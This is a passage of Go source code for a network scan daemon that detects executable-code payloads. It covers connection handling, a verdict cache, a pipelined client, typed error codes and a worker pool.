	connsTotal  *telemetry.Counter
	badFrames   *telemetry.Counter

	mu       sync.Mutex
	ln       net.Listener
	conns    map[net.Conn]struct{}
	closed   bool
	draining bool

	connWG sync.WaitGroup
}

// New validates the configuration and starts the worker pool. The
// server accepts no connections until Serve.
func New(cfg Config) (*Server, error) {
	if cfg.Detector == nil {
		return nil, errors.New("server: nil detector")
	}
	if cfg.MaxPayload <= 0 {
		cfg.MaxPayload = DefaultMaxPayload
	}
	if cfg.ReadTimeout == 0 {
		cfg.ReadTimeout = DefaultReadTimeout
	}
	if cfg.WriteTimeout == 0 {
		cfg.WriteTimeout = DefaultWriteTimeout
	}
	if cfg.RequestTimeout == 0 {
		cfg.RequestTimeout = DefaultRequestTimeout
	}
	if cfg.Logf == nil {
		cfg.Logf = func(string, ...any) {}
	}
	reg := cfg.Metrics
	if reg == nil {
		reg = telemetry.NewRegistry()
	}
	pool, err := NewPool(PoolConfig{
		Detector:   cfg.Detector,
		Workers:    cfg.Workers,
		QueueDepth: cfg.QueueDepth,
		CacheSize:  cfg.CacheSize,
		Metrics:    reg,
		Recorder:   cfg.Recorder,
		OnVerdict:  cfg.OnVerdict,
		Content:    cfg.Content,
		Events:     cfg.Events,
	})
	if err != nil {
		return nil, err
	}
	if cfg.InstrumentDetector {
		InstrumentDetector(cfg.Detector, reg)
	}
	return &Server{
		cfg:         cfg,
		pool:        pool,
		reg:         reg,
		connsActive: reg.Gauge("connections_active", "open client connections"),
		connsTotal:  reg.Counter("connections_total", "client connections accepted"),
		badFrames:   reg.Counter("bad_requests_total", "malformed or unknown request frames"),
		conns:       make(map[net.Conn]struct{}),
	}, nil
}

// Metrics returns the server's registry — mount it with
// telemetry.DebugMux for the /metrics and /debug/pprof endpoints.
func (s *Server) Metrics() *telemetry.Registry { return s.reg }

// Pool returns the shared worker pool, so other ingress paths (the
// proxy) can route scans through the same scheduler and cache.
func (s *Server) Pool() *Pool { return s.pool }

// Serve accepts connections on ln until Close. It takes ownership of
// the listener.
func (s *Server) Serve(ln net.Listener) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		ln.Close()
		return ErrShuttingDown
	}
	s.ln = ln
	s.mu.Unlock()

	for {
		conn, err := ln.Accept()
		if err != nil {
			s.mu.Lock()
			closed := s.closed
			s.mu.Unlock()
			if closed {
				return nil // deliberate shutdown
			}
			return fmt.Errorf("server: accept: %w", err)
		}
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			conn.Close()
			return nil
		}
		s.conns[conn] = struct{}{}
		s.connWG.Add(1)
		s.mu.Unlock()
		s.connsTotal.Inc()
		s.connsActive.Inc()
		go func() {
			defer s.connWG.Done()
			defer s.connsActive.Dec()
			s.handleConn(conn)
			s.mu.Lock()
			delete(s.conns, conn)
			s.mu.Unlock()
		}()
	}
}

// Close stops accepting, drains in-flight requests, closes the
// connections, and shuts the pool down. Requests already accepted get
// their responses; requests arriving during the drain are refused with
// ErrShuttingDown.
func (s *Server) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	s.draining = true
	ln := s.ln
	// Unblock every reader stuck in a frame read: readers notice the
	// shutdown when the deadline fires and exit through their drain
	// path, which flushes pending responses before closing.
	for c := range s.conns {
		_ = c.SetReadDeadline(time.Now())
	}
	s.mu.Unlock()

	var err error
	if ln != nil {
		err = ln.Close()
	}
	s.connWG.Wait()
	s.pool.Close()
	return err
}

// isDraining reports whether shutdown has begun.
func (s *Server) isDraining() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.draining
}

// handleConn runs one connection: this goroutine reads frames and
// submits jobs; a writer goroutine serializes responses. Workers hand
// completed verdicts to the writer through out; dead tears the writer
// down after it drains whatever is already queued.
func (s *Server) handleConn(conn net.Conn) {
	out := make(chan []byte, connOutDepth)
	dead := make(chan struct{})
	writerDone := make(chan struct{})
	var reqWG sync.WaitGroup

	go func() {
		defer close(writerDone)
		s.connWriter(conn, out, dead)
	}()

	// respond hands one encoded frame to the writer unless the
	// connection died or the writer already exited on a write error —
	// without the writerDone arm a worker could block forever on a
	// full queue whose consumer is gone.
	respond := func(frame []byte) {
		select {
		case out <- frame:
		case <-dead:
		case <-writerDone:
		}
	}

	br := bufio.NewReaderSize(conn, 64<<10)
	maxBody := uint32(headerLen + s.cfg.MaxPayload + maxFrameSlop)
	for {
		if s.cfg.ReadTimeout > 0 {
			_ = conn.SetReadDeadline(time.Now().Add(s.cfg.ReadTimeout))
		}
		typ, id, payload, err := readFrame(br, maxBody)
		if errors.Is(err, errFrameTooLarge) {
			// The oversized body was consumed; answer with the typed
			// error and keep the connection.
			respond(appendError(nil, id, CodeTooLarge,
				fmt.Sprintf("payload exceeds maximum %d", s.cfg.MaxPayload)))
			continue
		}
		if err != nil {
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() && !s.isDraining() {
				s.cfg.Logf("server: %s: idle timeout", conn.RemoteAddr())
			}
			break
		}
		if typ != MsgScan && typ != MsgScanTraced && typ != MsgScanContent && typ != MsgScanContentTraced {
			s.badFrames.Inc()
			respond(appendError(nil, id, CodeBadRequest, fmt.Sprintf("unknown request type 0x%02x", typ)))
			continue
		}
		isContent := typ == MsgScanContent || typ == MsgScanContentTraced
		if isContent && s.cfg.Content == nil {
			s.badFrames.Inc()
			respond(appendError(nil, id, CodeBadRequest, ErrContentDisabled.Error()))
			continue
		}
		var tr *tracing.Trace
		if typ == MsgScanTraced || typ == MsgScanContentTraced {
			if len(payload) < traceIDLen {
				s.badFrames.Inc()
				respond(appendError(nil, id, CodeBadRequest, "traced scan shorter than trace id"))
				continue
			}
			var tid tracing.TraceID
			copy(tid[:], payload[:traceIDLen])
			payload = payload[traceIDLen:]
			// Adopt the client's id (a zero id gets a fresh one) so the
			// flight-recorder entry and the client's view share identity.
			tr = tracing.New(tid, len(payload))
		}
		if len(payload) > s.cfg.MaxPayload {
			respond(appendError(nil, id, CodeTooLarge,
				fmt.Sprintf("payload %d exceeds maximum %d", len(payload), s.cfg.MaxPayload)))
			continue
		}
		if s.isDraining() {
			respond(appendError(nil, id, CodeShuttingDown, ErrShuttingDown.Error()))
			continue
		}
		var deadline time.Time
		if s.cfg.RequestTimeout > 0 {
			deadline = time.Now().Add(s.cfg.RequestTimeout)
		}
		reqWG.Add(1)
		reqID := id
		reqTr := tr
		done := func(v core.Verdict, cached bool, scanErr error) {
			defer reqWG.Done()
			if scanErr != nil {
				respond(appendError(nil, reqID, codeFor(scanErr), scanErr.Error()))
				return
			}
			// The pool finished the trace before invoking done, so the
			// stage durations read here are final.
			switch {
			case isContent && reqTr != nil:
				respond(appendVerdictContentTraced(nil, reqID, v, cached, reqTr))
			case isContent:
				respond(appendVerdictContent(nil, reqID, v, cached))
			case reqTr != nil:
				respond(appendVerdictTraced(nil, reqID, v, cached, reqTr))
			default:
				respond(appendVerdict(nil, reqID, v, cached))
			}
		}
		switch {
		case isContent && tr != nil:
			err = s.pool.SubmitContentTraced(payload, deadline, tr, done)
		case isContent:
			err = s.pool.SubmitContent(payload, deadline, done)
		case tr != nil:
			err = s.pool.SubmitTraced(payload, deadline, tr, done)
		default:
			err = s.pool.Submit(payload, deadline, done)
		}
		if err != nil {
			reqWG.Done()
			respond(appendError(nil, id, codeFor(err), err.Error()))
		}
	}

	// Drain: wait for this connection's in-flight scans so their
	// responses reach out, let the writer flush them, then tear down.
	reqWG.Wait()
	close(dead)
	<-writerDone
	conn.Close()
}

// connWriter owns the write side of one connection. It batches
// whatever responses are pending into one buffered flush. On dead it
// drains the queue, flushes, and exits.
func (s *Server) connWriter(conn net.Conn, out <-chan []byte, dead <-chan struct{}) {
	bw := bufio.NewWriterSize(conn, 64<<10)
	write := func(frame []byte) bool {
		if s.cfg.WriteTimeout > 0 {
			_ = conn.SetWriteDeadline(time.Now().Add(s.cfg.WriteTimeout))
		}
		_, err := bw.Write(frame)
		return err == nil
	}
	flush := func() bool { return bw.Flush() == nil }
	for {
		select {
		case frame := <-out:
			if !write(frame) {
				return
			}
			// Opportunistically batch everything already queued.
			for more := true; more; {
				select {
				case f := <-out:
					if !write(f) {
						return
					}
				default:
					more = false
				}
			}
			if !flush() {
				return
			}
		case <-dead:
			for {
				select {
				case f := <-out:
					if !write(f) {
						return
					}
				default:
					flush()
					return
				}
			}
		}
	}
}

package server

import (
	"container/list"
	"crypto/sha256"
	"sync"

	"repro/internal/core"
)

// cacheKey identifies a cached verdict: the payload hash plus the
// scan mode. SHA-256 keeps accidental and adversarial collisions
// equally out of reach: a verdict served from the cache is the verdict
// of byte-identical content. The mode bit domain-separates content-
// pipeline verdicts from plain ones — the same bytes can legitimately
// yield different verdicts (a gzip-wrapped worm is benign to a plain
// scan and malicious through the pipeline), so the two modes must
// never alias.
type cacheKey struct {
	sum     [sha256.Size]byte
	content bool
}

// verdictCache is a fixed-capacity LRU of payload-hash → verdict.
// Repeated payloads — retransmissions, mirrored traffic, a worm
// spraying the same bytes at every peer — skip pseudo-execution
// entirely. The verdict depends only on payload bytes for a fixed
// detector calibration, so entries never go stale while the detector
// is unchanged; the owning pool is built around exactly one detector.
type verdictCache struct {
	mu  sync.Mutex
	cap int
	ll  *list.List // front = most recent
	idx map[cacheKey]*list.Element
}

// cacheEntry is one resident verdict.
type cacheEntry struct {
	key cacheKey
	v   core.Verdict
}

// newVerdictCache builds a cache for up to capacity entries
// (capacity > 0).
func newVerdictCache(capacity int) *verdictCache {
	return &verdictCache{
		cap: capacity,
		ll:  list.New(),
		idx: make(map[cacheKey]*list.Element, capacity),
	}
}

// get returns the cached verdict for key, refreshing its recency.
//
//mel:hotpath
func (c *verdictCache) get(key cacheKey) (core.Verdict, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	el, ok := c.idx[key]
	if !ok {
		return core.Verdict{}, false
	}
	c.ll.MoveToFront(el)
	return el.Value.(*cacheEntry).v, true
}

// put inserts or refreshes a verdict, evicting the least recently used
// entry when full.
//
//mel:hotpath
func (c *verdictCache) put(key cacheKey, v core.Verdict) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.idx[key]; ok {
		el.Value.(*cacheEntry).v = v
		c.ll.MoveToFront(el)
		return
	}
	if c.ll.Len() >= c.cap {
		oldest := c.ll.Back()
		if oldest != nil {
			c.ll.Remove(oldest)
			delete(c.idx, oldest.Value.(*cacheEntry).key)
		}
	}
	c.idx[key] = c.ll.PushFront(&cacheEntry{key: key, v: v})
}

// len returns the resident entry count.
func (c *verdictCache) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.ll.Len()
}

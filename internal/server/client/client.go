// Package client is the Go client for the melserved scan daemon: one
// TCP connection, any number of concurrent callers. Requests are
// pipelined — each Scan gets a fresh request id, writes its frame, and
// waits for the matching response, so goroutines sharing a client keep
// the connection full without head-of-line blocking on scan order.
package client

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/core"
	"repro/internal/server"
	"repro/internal/telemetry/tracing"
)

// ErrClosed reports use of a closed client.
var ErrClosed = errors.New("client: closed")

// Result is one scan verdict as served over the wire. Params are
// derived server-side and not transmitted; MEL, threshold, and the
// verdict bit carry everything a gateway decision needs.
type Result struct {
	// Malicious is true when MEL exceeded the server's threshold.
	Malicious bool
	// MEL is the measured maximum executable length.
	MEL int
	// BestStart is the offset where the longest path begins.
	BestStart int
	// Threshold is the server's derived τ for this payload size.
	Threshold float64
	// TextOnly reports pure keyboard-enterable text.
	TextOnly bool
	// Cached reports that the verdict came from the server's
	// content-hash cache rather than fresh pseudo-execution.
	Cached bool
	// TriageCleared (content scans only) reports that the server's
	// triage stage cleared the payload without a MEL pass.
	TriageCleared bool
	// TriageScore (content scans only) is the triage suspicion score in
	// [0,1]; scores at or above 0.5 never clear.
	TriageScore float64
	// ViewIndex (content scans only) is the decoded view the verdict
	// came from: 0 is the raw payload, higher values count the views the
	// decode front end produced.
	ViewIndex int
	// DecodeChain (content scans only) names the encoding layers peeled
	// to reach the flagged view, outermost first ("gzip>base64"); empty
	// for a raw-payload verdict.
	DecodeChain string
	// Trace carries the latency attribution for this request when the
	// client was built WithTracing and the server echoed timings; nil
	// otherwise.
	Trace *Trace
}

// Trace attributes one traced request's client-observed latency to
// network versus server queue versus compute.
type Trace struct {
	// ID is the trace id, shared with the server's flight recorder —
	// chase it at the daemon's /debug/traces endpoint.
	ID tracing.TraceID
	// Elapsed is the client-observed round trip, from frame send to
	// response receipt.
	Elapsed time.Duration
	// Server is the server-side total (queue wait included), as echoed
	// in the response.
	Server time.Duration
	// Network is Elapsed minus Server: wire transit, framing, and
	// scheduling on both sides. Clamped at zero (clocks on the two ends
	// never mix; both durations are monotonic on their own host).
	Network time.Duration
	// Stages holds the server's per-stage durations, indexed by
	// tracing.Stage; -1 marks stages the server did not record.
	Stages [tracing.NumStages]time.Duration
}

// Option configures a Client.
type Option func(*Client)

// WithTimeout sets the default per-request timeout (default 30s;
// 0 or negative disables). ScanContext overrides it per call.
func WithTimeout(d time.Duration) Option {
	return func(c *Client) { c.timeout = d }
}

// WithMaxFrame overrides the largest response frame the client will
// accept (default 1 MiB plus protocol overhead).
func WithMaxFrame(n int) Option {
	return func(c *Client) {
		if n > 0 {
			c.maxFrame = uint32(n)
		}
	}
}

// WithTracing makes every scan carry a trace id and request the
// server's stage timings; results then populate Result.Trace. Against
// a pre-tracing server the first scan downgrades the connection
// (one transparent retry, then untraced from there on), so the option
// is safe to enable unconditionally.
func WithTracing() Option {
	return func(c *Client) { c.tracing.Store(true) }
}

// WithContent routes every scan through the server's content pipeline
// (triage → decode → MEL); results then carry the content fields
// (TriageCleared, ViewIndex, DecodeChain). Against a server without
// the pipeline — pre-content, or running with it disabled — the first
// scan downgrades the connection to plain scans with one transparent
// retry, so the option is safe to enable unconditionally.
func WithContent() Option {
	return func(c *Client) { c.content.Store(true) }
}

// Client is a concurrent-safe connection to a scan daemon.
type Client struct {
	conn     net.Conn
	bw       *bufio.Writer
	timeout  time.Duration
	maxFrame uint32
	tracing  atomic.Bool
	content  atomic.Bool

	wmu sync.Mutex // serializes frame writes and flushes

	mu      sync.Mutex
	pending map[uint64]chan response
	nextID  uint64
	closed  bool
	brokenE error // set when the read loop dies; fails later calls fast

	readDone chan struct{}
}

// response is one raw reply frame.
type response struct {
	typ     byte
	payload []byte
}

// Dial connects to a scan daemon.
func Dial(addr string, opts ...Option) (*Client, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("client: dial %s: %w", addr, err)
	}
	return NewClient(conn, opts...), nil
}

// NewClient wraps an established connection (ownership transfers).
func NewClient(conn net.Conn, opts ...Option) *Client {
	c := &Client{
		conn:     conn,
		bw:       bufio.NewWriterSize(conn, 64<<10),
		timeout:  30 * time.Second,
		maxFrame: 1<<20 + 1024,
		pending:  make(map[uint64]chan response),
		readDone: make(chan struct{}),
	}
	for _, opt := range opts {
		opt(c)
	}
	go c.readLoop()
	return c
}

// readLoop dispatches response frames to their waiting requests. On
// connection failure every in-flight and future request fails with the
// read error.
func (c *Client) readLoop() {
	defer close(c.readDone)
	br := bufio.NewReaderSize(c.conn, 64<<10)
	for {
		typ, id, payload, err := server.ReadFrame(br, c.maxFrame)
		if err != nil {
			c.mu.Lock()
			if c.brokenE == nil {
				if c.closed {
					c.brokenE = ErrClosed
				} else {
					c.brokenE = fmt.Errorf("client: connection lost: %w", err)
				}
			}
			pending := c.pending
			c.pending = make(map[uint64]chan response)
			c.mu.Unlock()
			for _, ch := range pending {
				close(ch) // receivers translate a closed channel via brokenE
			}
			return
		}
		c.mu.Lock()
		ch, ok := c.pending[id]
		if ok {
			delete(c.pending, id)
		}
		c.mu.Unlock()
		if ok {
			ch <- response{typ: typ, payload: payload}
		}
	}
}

// Scan submits one payload and blocks for its verdict, bounded by the
// client's default timeout. Typed daemon errors (server.ErrOverloaded,
// server.ErrPayloadTooLarge, ...) come back errors.Is-matchable.
func (c *Client) Scan(payload []byte) (Result, error) {
	ctx := context.Background()
	if c.timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, c.timeout)
		defer cancel()
	}
	return c.ScanContext(ctx, payload)
}

// ScanContext submits one payload and blocks for its verdict or the
// context's end.
func (c *Client) ScanContext(ctx context.Context, payload []byte) (Result, error) {
	traced := c.tracing.Load()
	viaContent := c.content.Load()
	res, err := c.scan(ctx, payload, traced, viaContent)
	if err != nil && viaContent && errors.Is(err, server.ErrBadRequest) {
		// A server without the content pipeline rejects MsgScanContent
		// (unknown type on pre-content builds, CodeBadRequest when the
		// pipeline is disabled). Downgrade the connection to plain scans
		// and retry this request.
		c.content.Store(false)
		viaContent = false
		res, err = c.scan(ctx, payload, traced, false)
	}
	if err != nil && traced && errors.Is(err, server.ErrBadRequest) {
		// A pre-tracing server rejects MsgScanTraced as an unknown type.
		// Downgrade the connection and retry this request untraced.
		c.tracing.Store(false)
		return c.scan(ctx, payload, false, viaContent)
	}
	return res, err
}

// scan runs one request in any of the four mode combinations.
func (c *Client) scan(ctx context.Context, payload []byte, traced, viaContent bool) (Result, error) {
	ch := make(chan response, 1)
	c.mu.Lock()
	if c.closed {
		err := c.brokenE
		c.mu.Unlock()
		if err == nil {
			err = ErrClosed
		}
		return Result{}, err
	}
	if c.brokenE != nil {
		err := c.brokenE
		c.mu.Unlock()
		return Result{}, err
	}
	c.nextID++
	id := c.nextID
	c.pending[id] = ch
	c.mu.Unlock()

	unregister := func() {
		c.mu.Lock()
		delete(c.pending, id)
		c.mu.Unlock()
	}

	c.wmu.Lock()
	if d, ok := ctx.Deadline(); ok {
		_ = c.conn.SetWriteDeadline(d)
	} else {
		_ = c.conn.SetWriteDeadline(time.Time{})
	}
	var frame []byte
	switch {
	case viaContent && traced:
		frame = server.AppendScanContentTracedRequest(nil, id, tracing.NewID(), payload)
	case viaContent:
		frame = server.AppendScanContentRequest(nil, id, payload)
	case traced:
		frame = server.AppendScanTracedRequest(nil, id, tracing.NewID(), payload)
	default:
		frame = server.AppendScanRequest(nil, id, payload)
	}
	start := time.Now()
	_, werr := c.bw.Write(frame)
	if werr == nil {
		werr = c.bw.Flush()
	}
	c.wmu.Unlock()
	if werr != nil {
		unregister()
		return Result{}, fmt.Errorf("client: send: %w", werr)
	}

	select {
	case resp, ok := <-ch:
		if !ok {
			c.mu.Lock()
			err := c.brokenE
			c.mu.Unlock()
			if err == nil {
				err = ErrClosed
			}
			return Result{}, err
		}
		return decodeResponse(resp, time.Since(start))
	case <-ctx.Done():
		unregister()
		return Result{}, ctx.Err()
	}
}

// decodeResponse turns a raw reply into a Result or typed error.
// elapsed is the client-observed round trip, used to attribute traced
// responses.
func decodeResponse(resp response, elapsed time.Duration) (Result, error) {
	switch resp.typ {
	case server.MsgVerdict:
		v, cached, err := server.DecodeVerdict(resp.payload)
		if err != nil {
			return Result{}, err
		}
		return fromVerdict(v, cached), nil
	case server.MsgVerdictContent:
		v, cached, err := server.DecodeVerdictContent(resp.payload)
		if err != nil {
			return Result{}, err
		}
		return fromVerdict(v, cached), nil
	case server.MsgVerdictTraced:
		v, cached, wt, err := server.DecodeVerdictTraced(resp.payload)
		if err != nil {
			return Result{}, err
		}
		res := fromVerdict(v, cached)
		res.Trace = traceFor(wt, elapsed)
		return res, nil
	case server.MsgVerdictContentTraced:
		v, cached, wt, err := server.DecodeVerdictContentTraced(resp.payload)
		if err != nil {
			return Result{}, err
		}
		res := fromVerdict(v, cached)
		res.Trace = traceFor(wt, elapsed)
		return res, nil
	case server.MsgError:
		code, msg, err := server.DecodeError(resp.payload)
		if err != nil {
			return Result{}, err
		}
		return Result{}, server.ErrorForCode(code, msg)
	default:
		return Result{}, fmt.Errorf("client: unexpected response type 0x%02x", resp.typ)
	}
}

// traceFor attributes a traced response's client-observed latency.
func traceFor(wt server.WireTrace, elapsed time.Duration) *Trace {
	network := elapsed - wt.Total
	if network < 0 {
		network = 0
	}
	return &Trace{
		ID:      wt.ID,
		Elapsed: elapsed,
		Server:  wt.Total,
		Network: network,
		Stages:  wt.Stages,
	}
}

// fromVerdict converts the wire verdict into the client result type.
// The content fields are zero on plain verdicts.
func fromVerdict(v core.Verdict, cached bool) Result {
	return Result{
		Malicious:     v.Malicious,
		MEL:           v.MEL,
		BestStart:     v.BestStart,
		Threshold:     v.Threshold,
		TextOnly:      v.TextOnly,
		Cached:        cached,
		TriageCleared: v.TriageCleared,
		TriageScore:   v.TriageScore,
		ViewIndex:     v.ViewIndex,
		DecodeChain:   v.DecodeChain,
	}
}

// Close tears the connection down and fails outstanding requests.
func (c *Client) Close() error {
	c.mu.Lock()
	if c.closed {
		c.mu.Unlock()
		return nil
	}
	c.closed = true
	c.mu.Unlock()
	err := c.conn.Close()
	<-c.readDone
	return err
}

package server

import (
	"errors"
	"fmt"
)

// Typed service errors. These are the contract between the daemon and
// its clients: the wire carries a status code, and the client library
// rehydrates the matching sentinel so errors.Is works across the
// network exactly as it does in-process.
var (
	// ErrOverloaded reports that the worker queue was full and the
	// request was shed rather than queued — the caller should back off
	// and retry. The server never blocks a connection on a full queue.
	ErrOverloaded = errors.New("server: overloaded, request shed")
	// ErrPayloadTooLarge reports a scan payload beyond the server's
	// configured maximum.
	ErrPayloadTooLarge = errors.New("server: payload exceeds maximum size")
	// ErrDeadlineExceeded reports that a request's deadline expired
	// before a worker reached it.
	ErrDeadlineExceeded = errors.New("server: request deadline exceeded")
	// ErrShuttingDown reports a request that arrived during graceful
	// drain.
	ErrShuttingDown = errors.New("server: shutting down")
	// ErrBadRequest reports a malformed or unknown request frame.
	ErrBadRequest = errors.New("server: bad request")
	// ErrScanFailed wraps a detector-side scan failure.
	ErrScanFailed = errors.New("server: scan failed")
	// ErrContentDisabled reports a content-pipeline scan against a pool
	// or server running without one. It maps to CodeBadRequest on the
	// wire — indistinguishable from a pre-content server's "unknown
	// type" — so clients downgrade to a plain scan either way.
	ErrContentDisabled = errors.New("server: content pipeline not configured")
)

// Wire status codes for MsgError frames.
const (
	CodeOverloaded   byte = 1
	CodeTooLarge     byte = 2
	CodeBadRequest   byte = 3
	CodeScanFailed   byte = 4
	CodeDeadline     byte = 5
	CodeShuttingDown byte = 6
)

// codeFor maps a service error to its wire status code.
func codeFor(err error) byte {
	switch {
	case errors.Is(err, ErrOverloaded):
		return CodeOverloaded
	case errors.Is(err, ErrPayloadTooLarge):
		return CodeTooLarge
	case errors.Is(err, ErrDeadlineExceeded):
		return CodeDeadline
	case errors.Is(err, ErrShuttingDown):
		return CodeShuttingDown
	case errors.Is(err, ErrBadRequest), errors.Is(err, ErrContentDisabled):
		return CodeBadRequest
	case errors.Is(err, ErrScanFailed):
		return CodeScanFailed
	default:
		// Unrecognized detector errors degrade to the scan-failure code;
		// the message still travels in the frame body.
		return CodeScanFailed
	}
}

// ErrorForCode rehydrates a wire status code into the matching typed
// error; the message, when non-empty, is attached as context.
func ErrorForCode(code byte, msg string) error {
	var base error
	switch code {
	case CodeOverloaded:
		base = ErrOverloaded
	case CodeTooLarge:
		base = ErrPayloadTooLarge
	case CodeDeadline:
		base = ErrDeadlineExceeded
	case CodeShuttingDown:
		base = ErrShuttingDown
	case CodeBadRequest:
		// A content-disabled server answers content scans with this
		// code and ErrContentDisabled's exact message. Rehydrate an
		// error matching both sentinels: ErrContentDisabled so callers
		// can tell the condition apart, ErrBadRequest so the client
		// library's downgrade path treats a content-disabled server and
		// a pre-content server identically.
		if msg == ErrContentDisabled.Error() {
			return fmt.Errorf("%w: %w", ErrBadRequest, ErrContentDisabled)
		}
		base = ErrBadRequest
	case CodeScanFailed:
		base = ErrScanFailed
	default:
		return fmt.Errorf("server: unknown error code %d: %s", code, msg)
	}
	if msg == "" || msg == base.Error() {
		return base
	}
	return fmt.Errorf("%w: %s", base, msg)
}

package server

import (
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"runtime"
	"sync"
	"time"

	"repro/internal/content"
	"repro/internal/core"
	"repro/internal/telemetry"
	"repro/internal/telemetry/events"
	"repro/internal/telemetry/tracing"
)

// Pool defaults.
const (
	// DefaultCacheSize is the verdict-cache capacity when the
	// configuration leaves it zero.
	DefaultCacheSize = 4096
	// defaultQueueFactor sizes the job queue as a multiple of the worker
	// count when unset: enough to absorb bursts, small enough that
	// latency under sustained overload stays bounded and shedding kicks
	// in quickly.
	defaultQueueFactor = 4
)

// PoolConfig configures a scan worker pool.
type PoolConfig struct {
	// Detector performs the scans; required, and must not be
	// recalibrated while the pool runs (the verdict cache assumes a
	// fixed calibration).
	Detector *core.Detector
	// Workers is the number of scan goroutines; <= 0 selects
	// GOMAXPROCS.
	Workers int
	// QueueDepth bounds the jobs waiting for a worker; <= 0 selects
	// defaultQueueFactor * Workers. When the queue is full, Submit sheds
	// with ErrOverloaded instead of blocking.
	QueueDepth int
	// CacheSize is the verdict LRU capacity: 0 selects
	// DefaultCacheSize, negative disables caching.
	CacheSize int
	// Metrics receives the pool's counters and histograms; nil creates
	// a private registry (exposed via Metrics()).
	Metrics *telemetry.Registry
	// Recorder, when set, turns on per-scan tracing: every submission
	// gets a Trace (unless the caller supplied one via SubmitTraced),
	// queue wait / cache / threshold / decode / DP become timed stages,
	// completed traces land in the recorder, and the latency histogram
	// gains trace-id exemplars.
	Recorder *tracing.Recorder
	// OnVerdict, when set, receives every successfully served verdict
	// (cache hits included) after its trace is recorded — the hook the
	// model-drift watcher observes MELs through. Called from worker
	// goroutines; must be cheap and concurrency-safe.
	OnVerdict func(core.Verdict)
	// Content, when set, enables the content scan path: SubmitContent
	// jobs run through this triage → decode → MEL pipeline instead of the
	// bare detector, and the pool publishes its queue occupancy as the
	// pipeline's load-pressure signal so decode depth sheds before any
	// scan is dropped. The pipeline should be built around the same
	// detector (its verdict cache assumptions carry over).
	Content *content.Pipeline
	// Events, when set, journals one wide event per submission outcome —
	// served verdicts, sheds, deadline expiries, scan failures — into
	// the lock-free journal. A nil journal costs one branch.
	Events *events.Journal
}

// job is one queued scan. content selects the pipeline path.
type job struct {
	payload  []byte
	enqueued time.Time
	deadline time.Time
	tr       *tracing.Trace
	content  bool
	done     func(v core.Verdict, cached bool, err error)
}

// poolMetrics are the pool's registered instruments — the canonical
// serving metric names.
type poolMetrics struct {
	scans     *telemetry.Counter
	errs      *telemetry.Counter
	malicious *telemetry.Counter
	benign    *telemetry.Counter
	hits      *telemetry.Counter
	misses    *telemetry.Counter
	shed      *telemetry.Counter
	deadline  *telemetry.Counter
	depth     *telemetry.Gauge
	latency   *telemetry.Histogram
	bytes     *telemetry.Counter
}

func newPoolMetrics(reg *telemetry.Registry) poolMetrics {
	return poolMetrics{
		scans:     reg.Counter("scans_total", "verdicts served (cache hits included)"),
		errs:      reg.Counter("scan_errors_total", "scans that failed in the detector"),
		malicious: reg.Counter("verdicts_malicious_total", "verdicts that flagged the payload"),
		benign:    reg.Counter("verdicts_benign_total", "verdicts that passed the payload"),
		hits:      reg.Counter("cache_hits_total", "verdicts served from the content-hash cache"),
		misses:    reg.Counter("cache_misses_total", "payloads that required pseudo-execution"),
		shed:      reg.Counter("shed_total", "requests shed because the queue was full"),
		deadline:  reg.Counter("deadline_exceeded_total", "requests that expired before a worker reached them"),
		depth:     reg.Gauge("queue_depth", "jobs waiting for a worker"),
		latency:   reg.Histogram("scan_latency_seconds", "request latency, queue wait included", nil),
		bytes:     reg.Counter("bytes_scanned_total", "payload bytes across served verdicts"),
	}
}

// Pool is a bounded scan worker pool with an optional verdict cache.
// It is the shared execution engine behind the TCP server and the
// proxy's pooled mode: submissions either queue, shed (ErrOverloaded),
// or — after Close — fail with ErrShuttingDown. Close drains queued
// work before returning.
type Pool struct {
	det       *core.Detector
	pipe      *content.Pipeline
	cache     *verdictCache
	jobs      chan job
	reg       *telemetry.Registry
	m         poolMetrics
	rec       *tracing.Recorder
	journal   *events.Journal
	onVerdict func(core.Verdict)

	// mu serializes Submit's channel send against Close's channel
	// close: senders hold the read lock, so Close (write lock) cannot
	// close the channel mid-send.
	mu     sync.RWMutex
	closed bool
	wg     sync.WaitGroup
}

// NewPool validates the configuration and starts the workers.
func NewPool(cfg PoolConfig) (*Pool, error) {
	if cfg.Detector == nil {
		return nil, errors.New("server: nil detector")
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.QueueDepth <= 0 {
		cfg.QueueDepth = defaultQueueFactor * cfg.Workers
	}
	reg := cfg.Metrics
	if reg == nil {
		reg = telemetry.NewRegistry()
	}
	p := &Pool{
		det:       cfg.Detector,
		pipe:      cfg.Content,
		jobs:      make(chan job, cfg.QueueDepth),
		reg:       reg,
		m:         newPoolMetrics(reg),
		rec:       cfg.Recorder,
		journal:   cfg.Events,
		onVerdict: cfg.OnVerdict,
	}
	switch {
	case cfg.CacheSize == 0:
		p.cache = newVerdictCache(DefaultCacheSize)
	case cfg.CacheSize > 0:
		p.cache = newVerdictCache(cfg.CacheSize)
	}
	for i := 0; i < cfg.Workers; i++ {
		p.wg.Add(1)
		go p.worker()
	}
	return p, nil
}

// Metrics returns the registry the pool reports into.
func (p *Pool) Metrics() *telemetry.Registry { return p.reg }

// Submit enqueues a scan without blocking: a full queue sheds the
// request with ErrOverloaded, a closed pool rejects it with
// ErrShuttingDown. On nil error, done is called exactly once, from a
// worker goroutine, with the verdict (or a typed error). A non-zero
// deadline expires queued requests with ErrDeadlineExceeded.
//
//mel:hotpath
func (p *Pool) Submit(payload []byte, deadline time.Time, done func(v core.Verdict, cached bool, err error)) error {
	return p.submit(payload, deadline, p.autoTrace(len(payload)), false, done)
}

// SubmitTraced is Submit with an explicit trace (e.g. one carrying a
// client-chosen id). A nil trace disables tracing for this request
